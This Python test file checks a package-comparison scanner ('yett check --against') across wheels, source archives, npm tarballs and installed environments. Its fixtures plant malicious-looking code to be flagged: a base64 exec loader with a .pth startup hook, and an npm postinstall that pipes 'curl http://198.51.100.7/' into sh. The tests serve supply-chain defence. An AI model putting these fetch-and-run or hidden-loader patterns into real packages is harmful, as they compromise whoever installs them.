"""Whole-program tests of yett check --against: archives, unpacked packages and environments. Run by tests/check/run."""
import http.server
import json
import os
import shutil
import tarfile
import threading
import unittest
import zipfile

import world
from world import check, fresh, install, report, rules, venv

STAGE = b"import base64\nexec(base64.b64decode('%s'))\n" % world.INNER.encode()


def unpack(archive, path):
    opened = zipfile.ZipFile(archive) if str(archive).endswith(".whl") else tarfile.open(archive)
    with opened as a:
        a.extractall(path)
    return path


def copied(env):
    to = fresh(env.name + "-copy")
    return shutil.copytree(env, to, symlinks=True, dirs_exist_ok=True, copy_function=shutil.copyfile)


def about(r, rule):
    return sorted((f.get("package", ""), f["path"]) for f in r["findings"] if f["rule"] == rule)


def npm(path, version, files=(), **more):
    text = json.dumps(dict({"name": "demo", "version": version}, **more)).encode()
    return world.tar(path / ("demo-%s.tgz" % version), {"package/package.json": text, **dict(files)})


class Against(unittest.TestCase):
    def test_archives(self):
        old = world.wheel(fresh("against-old"), "demo", "1.0", {"demo/__init__.py": b"x = 1\n"})
        path = fresh("against-new")
        same = world.wheel(path, "demo", "1.1", {"demo/__init__.py": b"x = 2\n"})
        r = report(same, "--against", old, code=0)
        self.assertEqual([f for f in r["findings"] if f["rule"].startswith("new-")], [])
        bad = world.wheel(path, "demo", "1.2", {
            "demo/__init__.py": b"import base64\nexec(base64.b64decode('%s'))\n" % world.INNER.encode(),
            "demo.pth": b"import demo\n", "demo/x.js": b"1\n"})
        r = report(bad, "--against", old)
        self.assertLessEqual({"new-startup-hook", "new-capability", "new-file-kind"}, rules(r))
        npm = {"name": "demo", "version": "1.0.0"}
        one = world.tar(path / "demo-1.0.0.tgz", {"package/package.json": json.dumps(npm).encode()})
        npm = dict(npm, version="1.0.1", scripts={"postinstall": "node a.js"},
                   optionalDependencies={"@x/setup": "github:x/y#79ac49ee"}, dependencies={"y": "^1.0.0"})
        two = world.tar(path / "demo-1.0.1.tgz", {"package/package.json": json.dumps(npm).encode()})
        r = report(two, "--against", one)
        self.assertLessEqual({"new-install-script", "new-foreign-dependency"}, rules(r, "hold"))
        self.assertIn("new-dependency", rules(r, "info"))

    def test_a_wheel_and_its_directory(self):
        path = fresh("against-wheel")
        old = world.wheel(path, "demo", "1.0", {"demo/__init__.py": b"x = 1\n"})
        new = world.wheel(path, "demo", "1.1", {"demo/__init__.py": STAGE, "demo.pth": b"import demo\n"})
        before, after = unpack(old, path / "old"), unpack(new, path / "new")
        for target, previous in ((new, before), (after, old), (after, before)):
            r = report(target, "--against", previous)
            self.assertLessEqual({"new-startup-hook", "new-capability"}, rules(r), (target, previous))
        for target, previous in ((new, after), (after, new), (after, after)):
            found = rules(report(target, "--against", previous)) if target != previous else set()
            self.assertFalse(found & {"new-startup-hook", "new-capability", "same-version-other-code", "files-differ"},
                             (target, previous))

    def test_npm_and_its_directory(self):
        path = fresh("against-npm")
        old = npm(path, "1.0.0", {"package/a.js": b"1\n"})
        new = npm(path, "1.0.1", {"package/a.js": b"require('child_process').exec('curl http://198.51.100.7/ | sh')\n"},
                  scripts={"postinstall": "node a.js"}, dependencies={"y": "^1.0.0"})
        before, after = unpack(old, path / "old"), unpack(new, path / "new")
        for target, previous in ((new, before), (after, old), (after, before), (after / "package", before)):
            r = report(target, "--against", previous)
            self.assertLessEqual({"new-install-script", "new-dependency", "new-capability"}, rules(r),
                                 (target, previous))
        self.assertFalse(rules(report(after, "--against", new)) & {"new-install-script", "new-dependency",
                                                                   "same-version-other-code", "files-differ"})

    def test_npm_that_brings_packages_and_its_directory(self):
        path = fresh("against-bundled")
        inner = {"package/node_modules/b/package.json": b'{"name": "b", "version": "1.0.0"}',
                 "package/node_modules/b/index.js": b"1\n"}
        more = {"bundleDependencies": ["b"], "dependencies": {"b": "^1.0.0"}}
        stage = b"require('child_process').exec('curl http://198.51.100.7/ | sh')\n"
        old = npm(path, "1.0.0", {"package/a.js": b"1\n", **inner}, **more)
        new = npm(path, "1.0.1", {"package/a.js": stage, **inner}, scripts={"postinstall": "node a.js"}, **more)
        before, after = unpack(old, path / "old"), unpack(new, path / "new")
        for target, previous in ((new, before), (after, old), (after, before), (after / "package", before / "package")):
            r = report(target, "--against", previous)
            self.assertLessEqual({"new-install-script", "new-capability"}, rules(r), (target, previous))
            self.assertFalse(rules(r) & {"package-gone", "package-added"}, (target, previous))
        # A project into which npm has installed is an environment.
        for root in (before, after):
            (root / "package/node_modules/.package-lock.json").write_text("{}")
        (after / "package/node_modules/b/index.js").write_text("2\n")
        r = report(after / "package", "--against", before / "package")
        self.assertEqual(about(r, "same-version-other-code"), [("pkg:npm/b@1.0.0", "node_modules/b/index.js")])
        self.assertNotIn("new-install-script", rules(r))

    def test_a_source_archive_and_its_directory(self):
        path = fresh("against-sdist")
        info = b"Metadata-Version: 2.1\nName: demo\nVersion: %s\n\n"
        old = world.tar(path / "demo-1.0.tar.gz", {"demo-1.0/PKG-INFO": info % b"1.0", "demo-1.0/setup.py": b"x = 1\n"})
        new = world.tar(path / "demo-1.1.tar.gz", {"demo-1.1/PKG-INFO": info % b"1.1", "demo-1.1/setup.py": STAGE})
        before, after = unpack(old, path / "old"), unpack(new, path / "new")
        for target, previous in ((new, before), (after, old), (after, before)):
            self.assertIn("new-capability", rules(report(target, "--against", previous)), (target, previous))
        other = fresh("against-sdist-other")
        world.tar(other / "demo-1.0.tar.gz", {"demo-1.0/PKG-INFO": info % b"1.0", "demo-1.0/setup.py": b"x = 2\n"})
        r = report(other / "demo-1.0.tar.gz", "--against", before)
        self.assertEqual(about(r, "same-version-other-code"), [("pkg:pypi/demo@1.0", "demo-1.0/setup.py")])

    def test_environments(self):
        old, before = venv("against-env-old")
        new, after = venv("against-env-new")
        install(before, "gone", "1.0", {"gone/__init__.py": b"x = 1\n"})
        install(before, "moved", "1.0", {"moved/__init__.py": b"x = 1\n"})
        install(after, "moved", "1.1", {"moved/__init__.py": STAGE})
        for site, data in ((before, b"x = 1\n"), (after, b"x = 2\n")):
            install(site, "same", "1.0", {"same/__init__.py": data, "same/a.txt": data, "same/b.py": b"y = 1\n"})
        install(after, "added", "1.0", {"added/__init__.py": STAGE, "added.pth": b"import added\n"})
        site = "lib/python3.11/site-packages/"
        r = report(new, "--against", old)
        self.assertEqual(about(r, "package-added"), [("pkg:pypi/added@1.0", site + "added-1.0.dist-info")])
        self.assertEqual([p for p, _ in about(r, "package-gone")], ["pkg:pypi/gone@1.0"])
        self.assertEqual(about(r, "package-version"), [("pkg:pypi/moved@1.1", site + "moved-1.1.dist-info")])
        self.assertEqual([p for p, _ in about(r, "new-capability")], ["pkg:pypi/moved@1.1"])
        self.assertEqual([p for p, _ in about(r, "new-startup-hook")], ["pkg:pypi/added@1.0"])
        self.assertEqual(about(r, "same-version-other-code"), [("pkg:pypi/same@1.0", site + "same/__init__.py")])
        self.assertEqual(report(new, "--against", old)["findings"], r["findings"])  # remembered
        self.assertEqual({e["path"] for e in r["environments"]}, {""})
        self.assertNotIn("gone", {p["name"] for p in r["packages"]})
        clean = report(old, "--against", copied(old), code=0)
        self.assertFalse(rules(clean) & {"package-added", "package-gone", "package-version", "files-differ"})

    def test_a_wheel_and_an_environment(self):
        env, site = venv("against-env-wheel")
        install(site, "demo", "1.0", {"demo/__init__.py": b"x = 1\n"})
        path = fresh("against-env-wheels")
        new = world.wheel(path, "demo", "1.1", {"demo/__init__.py": STAGE})
        r = report(new, "--against", env)
        self.assertIn("new-capability", rules(r))
        self.assertFalse(rules(r) & {"package-gone", "package-added"})
        other = world.wheel(path, "other", "1.0", {"other/__init__.py": b"x = 1\n"})
        self.assertEqual(about(report(other, "--against", env), "package-added"), [("pkg:pypi/other@1.0", other.name)])
        same = world.wheel(path, "demo", "1.0", {"demo/__init__.py": b"x = 2\n"})
        self.assertEqual(about(report(env, "--against", same), "same-version-other-code"),
                         [("pkg:pypi/demo@1.0", "lib/python3.11/site-packages/demo/__init__.py")])

    def test_node_modules(self):
        old, new = fresh("against-node-old"), fresh("against-node-new")
        for root, version in ((old, "1.0.0"), (new, "1.0.1")):
            for place, name, v in (("a", "a", version), ("a/node_modules/b", "b", "2.0.0"), ("b", "b", "1.0.0")):
                at = root / "node_modules" / place
                at.mkdir(parents=True)
                (at / "package.json").write_text(json.dumps({"name": name, "version": v}))
                (at / "index.js").write_text("module.exports = %s\n" % (v == "1.0.0"))
        (new / "node_modules/b/index.js").write_text("module.exports = 2\n")
        r = report(new, "--against", old)
        self.assertEqual(about(r, "package-version"), [("pkg:npm/a@1.0.1", "node_modules/a/package.json")])
        self.assertEqual(about(r, "same-version-other-code"), [("pkg:npm/b@1.0.0", "node_modules/b/index.js")])

    def test_publisher(self):
        path = fresh("against-publisher")
        info = b"Metadata-Version: 2.1\nName: demo\nVersion: %s\nAuthor-email: A <%s>\nProject-URL: Source, %s\n%s\n"
        def sdist(version, *rest):
            return world.tar(path / ("demo-%s.tar.gz" % version.decode()), {
                "demo-%s/PKG-INFO" % version.decode(): info % ((version,) + rest)})
        old = sdist(b"1.0", b"a@example.org", b"https://github.com/demo/demo", b"")
        r = report(sdist(b"1.1", b"a@example.net", b"git+https://github.com/demo/demo.git", b""), "--against", old)
        self.assertEqual([f["excerpt"] for f in r["findings"] if f["rule"] == "publisher-changed"], ["a@example.net"])
        r = report(sdist(b"1.2", b"a@example.org", b"https://github.com/thief/demo", b"Requires-Dist: y\n"),
                   "--against", old)
        self.assertIn("publisher-and-dependency", rules(r, "hold"))
        one = npm(path, "1.0.0", author={"email": "a@example.org"}, repository="demo/demo",
                  publishConfig={"registry": "https://a.example.org/"})
        two = npm(path, "1.0.1", maintainers=["b <b@example.org>"], repository={"url": "git://github.com/thief/demo.git"},
                  publishConfig={"registry": "https://b.example.org/"})
        r = report(two, "--against", one)
        self.assertEqual(len(about(r, "publisher-changed")), 3)

    def test_the_identity_that_signed_it(self):
        """From the ledger of yett verify, also for what is installed."""
        def entry(version, repository, number):
            return json.dumps({"ledger": 1, "at": "2026-01-01T00:00:00Z", "state": "valid", "ecosystem": "pypi",
                               "name": "signed", "version": version, "file": "signed-%s.whl" % version, "issuer": "i",
                               "repository": repository, "repository_id": number}) + "\n"
        data = fresh("against-signed-data")
        (data / "ledger").write_text(entry("1.0", "https://github.com/o/r", "1") + entry("1.1", "https://github.com/o/renamed", "1")
                                     + entry("1.2", "https://github.com/thief/r", "2"))
        envs = {v: venv("against-signed-" + v) for v in ("1.0", "1.1", "1.2")}
        for version, (path, site) in envs.items():
            install(site, "signed", version, {"signed.py": b"x = 1\n"})
        def changed(new, old):
            out = check(envs[new][0], "--against", envs[old][0], "--data", data, "--format", "json")
            return [f["excerpt"] for f in json.loads(out[1])["findings"] if f["rule"] == "publisher-changed"]
        self.assertEqual(changed("1.2", "1.0"), ["https://github.com/thief/r"])
        self.assertEqual(changed("1.1", "1.0"), [])

    def test_the_account_that_published_it(self):
        path = fresh("against-registry")
        made = {v: npm(path, v, **more).read_bytes() for v, more in (
            ("1.0.0", {}), ("1.0.1", {}), ("1.0.2", {"dependencies": {"y": "^1.0.0"}}))}
        class Registry(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                version = self.path.rpartition("-")[2].removesuffix(".tgz")
                body = made.get(version) or json.dumps({"name": "demo", "versions": {v: {
                    "_npmUser": {"name": "ann", "email": "ann@example.%s" % ("org" if v == "1.0.0" else v[-1] + ".net")},
                    "dist": {"tarball": "/demo-%s.tgz" % v}} for v in made}}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            def log_message(self, *args):
                pass
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        env = dict(os.environ, NPM_CONFIG_REGISTRY="http://127.0.0.1:%d/" % server.server_address[1])
        try:
            for version, rule in (("1.0.1", "publisher-changed"), ("1.0.2", "publisher-and-dependency")):
                out = check("npm:demo@" + version, "--format", "json", env=env, offline=False)
                self.assertEqual(len(about(json.loads(out[1]), rule)), 1, out)
        finally:
            server.shutdown()
            server.server_close()

    def test_what_is_no_release(self):
        path = fresh("against-nothing")
        (path / "x").write_text("x\n")
        env, _ = venv("against-something")
        self.assertEqual(check(env, "--against", path / "missing")[0], 66)
        self.assertEqual(check(env, "--against", path / "x")[0], 3)
